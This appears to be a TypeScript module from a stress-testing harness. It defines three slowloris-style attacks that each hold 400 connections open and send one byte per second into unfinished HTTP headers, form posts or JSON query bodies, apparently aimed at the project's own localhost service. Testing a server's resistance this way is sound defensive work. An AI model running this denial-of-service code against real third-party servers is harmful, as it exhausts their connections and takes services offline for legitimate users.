import type { Socket } from 'node:net'
import type { Attack } from '../attack.ts'
import { overConnections } from '../connections.ts'
import { request } from '../request.ts'
import { steadily, upTo } from '../steadily.ts'

/** Opens connections with the given bytes, and sends one more byte over each every second. */
const dripping = (count: number, bytes: string, drop: string) =>
  overConnections((connections) => {
    const sockets: Socket[] = []
    const opening = upTo(count, count, () => {
      const socket = connections.open(bytes)
      if (socket) sockets.push(socket)
    })
    const drips = steadily(1, () => {
      for (const socket of sockets) if (socket.writable) socket.write(drop)
    })
    return () => {
      opening()
      drips()
    }
  })

const type = 'application/x-www-form-urlencoded'
const head = (path: string) =>
  request('POST', path, { 'Content-Type': type, 'Content-Length': 5_000 })

export const slowHeaders: Attack = {
  name: 'headers at one byte per second',
  rate: '400 connections',
  isAmongWorst: true,
  start: dripping(400, 'GET / HTTP/1.1\r\nHost: localhost\r\nX-Drip: ', 'a'),
}

export const slowForms: Attack = {
  name: 'forms at one byte per second',
  rate: '400 connections',
  start: dripping(400, `${head('/waitlist')}name=`, 'a'),
}

export const slowQueries: Attack = {
  name: 'queries at one byte per second',
  rate: '400 connections',
  start: dripping(400, `${head('/v2025-02-19/data/query/production')}{"query":"`, '*'),
}
